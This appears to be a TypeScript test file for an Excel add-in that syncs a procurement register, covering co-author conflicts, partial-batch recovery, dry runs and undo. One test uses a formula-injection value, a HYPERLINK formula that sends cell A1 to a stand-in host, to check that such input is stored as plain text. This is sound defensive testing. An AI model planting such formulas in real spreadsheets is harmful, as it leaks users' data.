import { NOW, readRecords, registerIn, template } from "../../../test/excel-fixtures/sim-fixture";
import { historyCellCount } from "../../../test/excel-fixtures/history-cells";
import { DEFAULT_BLOCK_CELLS } from "../register/read-register";
import { syncProcess } from "./run-sync";
import { lastSync } from "./last-sync";
import { undoLastSync } from "./undo";
import { reconcileStatuses } from "../tracking/change-tracking";
import { queueReadState } from "../store/state-store";

const LATER = "2026-03-03T10:00:00";
const noSleep = { run: { sleep: async () => undefined } };

async function history(binding: {
  historyTableName: string;
}): Promise<Record<string, string | number | boolean>[]> {
  return (await readRecords(binding.historyTableName)).filter((r) => r["Case ID"] !== "");
}

type Sim = Awaited<ReturnType<typeof registerIn>>["sim"];

/**
 * A procurement register after its first sync, with one "In progress" case marked Done by a person; then
 * a second sync during whose rules phase `meanwhile` runs once (a co-author acting between read and write).
 */
async function syncWhileCoauthoring(meanwhile: (sim: Sim, openRow: number) => void) {
  const { sim, binding } = await registerIn(template("procurement"));
  await syncProcess({ binding, now: NOW, ...noSleep });
  const rows = await readRecords("PS_procurement");
  const open = rows.findIndex((row) => row["Status"] === "In progress");
  sim.setCellByUser("Procurement", `C${open + 2}`, "Done");
  await sim.settle();
  let acted = false;
  const result = await syncProcess({
    binding,
    now: LATER,
    onProgress: (p) => {
      if (p.phase === "rules" && !acted) {
        acted = true;
        meanwhile(sim, open);
      }
    },
    ...noSleep,
  });
  if (!result.ok) {
    sim.uninstall();
    throw new Error(result.error.message);
  }
  expect(acted).toBe(true);
  const after = await readRecords("PS_procurement");
  const id = rows[open]?.["ID"];
  return {
    sim,
    rows,
    after,
    before: rows[open],
    row: after.find((x) => x["ID"] === id),
    result: result.value,
  };
}

/** The owners a first sync of the procurement sample gives the cases it routes to the buyers. */
async function buyersAfterSync(away: readonly string[]): Promise<string[]> {
  const { sim, binding } = await registerIn(template("procurement"));
  try {
    // People lists the roles' members in order: 孙丽, Jack Wang, 何静 first (the buyers).
    const names = (await readRecords("PS_People")).map((r) => r["Name"]);
    for (const who of away) sim.setCellByUser("People", `D${names.indexOf(who) + 2}`, "2026-03-31");
    await sim.settle();
    sim.resetCounters();
    const r = await syncProcess({ binding, now: NOW, ...noSleep });
    if (!r.ok) throw new Error(r.error.message);
    // People is read in the sync's first batch: no sync of its own.
    expect(sim.counters().syncs).toBeLessThanOrEqual(3);
    const buyers = new Set(["孙丽", "Jack Wang", "何静"]);
    return r.value.moved
      .map((m) => String(m.after.owner ?? ""))
      .filter((o) => buyers.has(o) && o !== "")
      .sort();
  } finally {
    sim.uninstall();
  }
}

describe("sync in a workbook (docs/specification.md §5.4)", () => {
  it("syncs a workbook from before People: one sync more to look for it, nobody away", async () => {
    const { sim, binding } = await registerIn(template("procurement"));
    try {
      await Excel.run(async (context) => {
        context.workbook.worksheets.getItem("People").delete();
        await context.sync();
      });
      sim.resetCounters();
      const r = await syncProcess({ binding, now: NOW, ...noSleep });
      if (!r.ok) throw new Error(r.error.message);
      expect(r.value.changedRows).toBeGreaterThan(0);
      // The first batch assumed People and failed with ItemNotFound; the second looked first.
      expect(sim.counters().syncs).toBeLessThanOrEqual(4);
    } finally {
      sim.uninstall();
    }
  });

  it("honours People's Away until: least-busy passes over buyers away today (docs/specification.md §1.8)", async () => {
    const present = await buyersAfterSync([]);
    expect(present.some((o) => o !== "Jack Wang")).toBe(true);
    const away = await buyersAfterSync(["孙丽", "何静"]);
    expect(away.length).toBeGreaterThan(0);
    expect(new Set(away)).toEqual(new Set(["Jack Wang"]));
  });

  it("numbers, starts, routes and dates the sample cases; appends History; writes only changed cells", async () => {
    const { sim, binding } = await registerIn(template("procurement"));
    try {
      sim.resetCounters();
      const r = await syncProcess({ binding, now: NOW, ...noSleep });
      if (!r.ok) throw new Error(r.error.message);
      const c = sim.counters();
      expect(r.value.errors).toEqual([]);
      const rows = await readRecords("PS_procurement");
      expect(rows.every((row) => /^PR-\d{4}$/.test(String(row["ID"])))).toBe(true);
      expect(rows.every((row) => row["Step"] !== "" && row["Status"] !== "")).toBe(true);
      const events = await history(binding);
      expect(events.length).toBe(r.value.events.length);
      // History speaks the workbook's language (docs/specification.md §3.9): "Created", not "created".
      expect(events.filter((e) => e["Event"] === "Created").length).toBe(
        r.value.events.filter((e) => e.type === "created").length,
      );
      // Only changed cells are written: the cells the report lists plus History rows and nothing else.
      const historyCells = historyCellCount(r.value.events);
      expect(c.cellsWritten).toBeLessThanOrEqual(
        r.value.cellsWritten + historyCells + r.value.changes.length,
      );
      expect(r.value.cellsWritten).toBe(r.value.changes.length);
    } finally {
      sim.uninstall();
    }
  });

  it("stays within 2 + ⌈cells read ÷ block⌉ context.sync calls when 1% of rows change", async () => {
    const { sim, binding } = await registerIn(template("procurement"));
    try {
      await syncProcess({ binding, now: NOW, ...noSleep });
      // Mark 1 row Done so the next sync moves it on.
      const rows = await readRecords("PS_procurement");
      const open = rows.findIndex((row) => row["Status"] === "In progress");
      sim.setCellByUser("Procurement", `C${open + 2}`, "Done");
      await sim.settle();
      sim.resetCounters();
      const blockCells = 200;
      const r = await syncProcess({ binding, now: LATER, blockCells, ...noSleep });
      if (!r.ok) throw new Error(r.error.message);
      expect(r.value.changedRows).toBeGreaterThanOrEqual(1);
      const budget = 2 + Math.ceil(r.value.cellsRead / blockCells);
      expect(sim.counters().syncs).toBeLessThanOrEqual(budget);
      expect(DEFAULT_BLOCK_CELLS).toBeGreaterThan(blockCells);
    } finally {
      sim.uninstall();
    }
  });

  it("dry run returns every change with its why trace and writes nothing", async () => {
    const { sim, binding } = await registerIn(template("procurement"));
    try {
      const before = JSON.stringify(sim.dump());
      sim.resetCounters();
      const r = await syncProcess({ binding, now: NOW, dryRun: true, ...noSleep });
      if (!r.ok) throw new Error(r.error.message);
      expect(r.value.dryRun).toBe(true);
      expect(r.value.changes.length).toBeGreaterThan(0);
      expect(r.value.changes[0]).toMatchObject({
        id: expect.stringMatching(/^PR-/),
        header: expect.any(String),
        afterText: expect.any(String),
      });
      expect(r.value.traces?.size).toBeGreaterThan(0);
      expect(sim.counters().cellsWritten).toBe(0);
      expect(JSON.stringify(sim.dump())).toBe(before);
    } finally {
      sim.uninstall();
    }
  });

  it("a co-author sorting between read and write makes it read again; every value lands on its own row", async () => {
    const { sim, rows, after, row } = await syncWhileCoauthoring((sim) =>
      sim.coauthor.sortTable("PS_procurement", "Requester", true),
    );
    try {
      expect(row?.["Status"]).toBe("To do");
      // Every row still pairs its ID with its own requester (nothing was written by position).
      for (const r of rows)
        expect(after.find((x) => x["ID"] === r["ID"])?.["Requester"]).toBe(r["Requester"]);
    } finally {
      sim.uninstall();
    }
  });
  it("a batch failing half-way is finished by the next sync without duplicate History events", async () => {
    const { sim, binding } = await registerIn(template("procurement"));
    try {
      await syncProcess({ binding, now: NOW, ...noSleep });
      const rows = await readRecords("PS_procurement");
      const open = rows.findIndex((row) => row["Status"] === "In progress");
      const caseId = String(rows[open]?.["ID"]);
      sim.setCellByUser("Procurement", `C${open + 2}`, "Done");
      await sim.settle();
      const before = (await history(binding)).length;
      const failed = await syncProcess({
        binding,
        now: LATER,
        run: { attempts: 1, sleep: async () => undefined },
        onProgress: (p) => {
          // After the reads: the next batch is the ID check, the one after it the write; fail its 3rd statement.
          if (p.phase === "rules" && p.done === 0)
            sim.betweenSyncs(() => sim.betweenSyncs(() => sim.failAt(2, "GeneralException")));
        },
      });
      expect(failed.ok).toBe(false);
      expect((await history(binding)).length).toBe(before);
      // The pane can say so (docs/reliability.md C6): the workbook remembers a sync that stopped part-way.
      expect(await lastSync(binding)).toMatchObject({ ok: true, value: { at: LATER, state: "writing" } });
      const resumed = await syncProcess({ binding, now: "2026-03-04T09:00:00", ...noSleep });
      if (!resumed.ok) throw new Error(resumed.error.message);
      expect(await lastSync(binding)).toMatchObject({
        ok: true,
        value: { at: "2026-03-04T09:00:00", state: "done", events: resumed.value.events.length },
      });
      const events = await history(binding);
      const mine = events.filter((e) => e["Case ID"] === caseId).map((e) => String(e["Event"]));
      expect(mine.filter((t) => t === "Moved to next step" || t === "Closed").length).toBe(1);
      const keys = events.map(
        (e) => `${String(e["Case ID"])}|${String(e["Event"])}|${String(e["Step"])}|${String(e["Status"])}`,
      );
      expect(new Set(keys).size).toBe(keys.length);
    } finally {
      sim.uninstall();
    }
  });

  it("a co-author inserting a column between read and write makes it read again; values land in their columns (docs/reliability.md W2)", async () => {
    // Column B, inside the register: every column from Step on moves one to the right.
    const { sim, after, before, row } = await syncWhileCoauthoring((sim) =>
      sim.coauthor.insertColumns("Procurement", 2),
    );
    try {
      // The sync advanced the case (Done → the next step, To do) in the Status column, wherever it now is.
      expect(row?.["Status"]).toBe("To do");
      expect(row?.["Step"]).not.toBe(before?.["Step"]);
      // The co-author's new column holds nothing Procsheet wrote.
      const added = Object.keys(after[0] ?? {}).find((h) => /^Column\d+$/.test(h)) ?? "";
      expect(added).not.toBe("");
      expect(after.every((x) => x[added] === "")).toBe(true);
    } finally {
      sim.uninstall();
    }
  });
  it("a co-author's edit to a cell the sync is about to change wins; the sync reads again (docs/reliability.md C2)", async () => {
    // The sync read "Done" and would advance the case; a co-author blocks it meanwhile.
    const { sim, before, row, result } = await syncWhileCoauthoring((sim, open) =>
      sim.coauthor.editCell("Procurement", `C${open + 2}`, "Blocked"),
    );
    try {
      expect(row?.["Status"]).toBe("Blocked");
      expect(row?.["Step"]).toBe(before?.["Step"]);
      const id = String(before?.["ID"]);
      expect(result.events.filter((e) => e.caseId === id).map((e) => e.status)).toEqual(["blocked"]);
    } finally {
      sim.uninstall();
    }
  });
  it("text that would become a formula is written as text, in the register and in History (docs/reliability.md X1, X2)", async () => {
    const def = template("procurement");
    const { sim, binding } = await registerIn({
      ...def,
      sample: [{ requester: '=HYPERLINK("http://x/?"&A1)', item: "@SUM(1)", amount: 10 }],
    });
    try {
      const r = await syncProcess({ binding, now: NOW, ...noSleep });
      if (!r.ok) throw new Error(r.error.message);
      const cells = await Excel.run(async (context) => {
        const range = context.workbook.tables
          .getItem("PS_procurement")
          .getDataBodyRange()
          .load("values,formulas,valueTypes");
        await context.sync();
        return range;
      });
      // The check docs/reliability.md X1 asks for: read back, the cell holds the string itself, typed String.
      const owner = 3;
      expect(cells.values[0]?.[owner]).toBe('=HYPERLINK("http://x/?"&A1)');
      expect(cells.formulas[0]?.[owner]).toBe('=HYPERLINK("http://x/?"&A1)');
      expect(cells.valueTypes[0]?.[owner]).toBe("String");
      expect(cells.valueTypes.flat()).not.toContain("Error");
      // X2: the same guard on History, where the owner is logged with the "assigned" event.
      const log = await Excel.run(async (context) => {
        const range = context.workbook.tables
          .getItem(binding.historyTableName)
          .getDataBodyRange()
          .load("values,formulas,valueTypes");
        await context.sync();
        return range;
      });
      const logged = log.values.findIndex((row) => row.includes('=HYPERLINK("http://x/?"&A1)'));
      expect(logged).toBeGreaterThanOrEqual(0);
      const column = log.values[logged]?.indexOf('=HYPERLINK("http://x/?"&A1)') ?? -1;
      expect(log.formulas[logged]?.[column]).toBe('=HYPERLINK("http://x/?"&A1)');
      expect(log.valueTypes[logged]?.[column]).toBe("String");
      expect(log.valueTypes.flat()).not.toContain("Error");
    } finally {
      sim.uninstall();
    }
  });
});

describe("undo and change tracking", () => {
  it("undo puts back what the last sync wrote, reports cells changed since, and records itself", async () => {
    const { sim, binding } = await registerIn(template("procurement"));
    try {
      const original = await readRecords("PS_procurement");
      const r = await syncProcess({ binding, now: NOW, ...noSleep });
      if (!r.ok) throw new Error(r.error.message);
      // A person changes one owner the sync wrote; undo must leave it alone.
      const synced = await readRecords("PS_procurement");
      const i = synced.findIndex((row, k) => row["Owner"] !== original[k]?.["Owner"]);
      sim.setCellByUser("Procurement", `D${i + 2}`, "Somebody Else");
      await sim.settle();
      const u = await undoLastSync(binding, LATER);
      if (!u.ok) throw new Error(u.error.message);
      expect(u.value.conflicts).toEqual([expect.objectContaining({ header: "Owner", now: "Somebody Else" })]);
      const after = await readRecords("PS_procurement");
      after.forEach((row, k) => {
        if (k === i) expect(row["Owner"]).toBe("Somebody Else");
        else expect(row["Owner"]).toBe(original[k]?.["Owner"]);
      });
      const events = await history(binding);
      expect(events.filter((e) => e["By"] === "undo").length).toBe(u.value.cases);
      const again = await undoLastSync(binding, LATER);
      expect(again.ok).toBe(false);
    } finally {
      sim.uninstall();
    }
  });

  it("status edits people made between syncs become status events, once", async () => {
    const { sim, binding } = await registerIn(template("procurement"));
    try {
      await syncProcess({ binding, now: NOW, ...noSleep });
      const rows = await readRecords("PS_procurement");
      const i = rows.findIndex((row) => row["Status"] === "To do");
      sim.coauthor.editCell("Procurement", `C${i + 2}`, "Blocked");
      const first = await reconcileStatuses(binding, LATER);
      if (!first.ok) throw new Error(first.error.message);
      expect(first.value).toEqual([
        expect.objectContaining({ caseId: rows[i]?.["ID"], type: "status", status: "blocked" }),
      ]);
      const second = await reconcileStatuses(binding, LATER);
      expect(second.ok && second.value).toEqual([]);
      const state = await Excel.run(async (context) => {
        const get = queueReadState(context, binding);
        await context.sync();
        return get();
      });
      expect(state.snapshot?.[String(rows[i]?.["ID"])]).toBe("blocked");
    } finally {
      sim.uninstall();
    }
  });
});
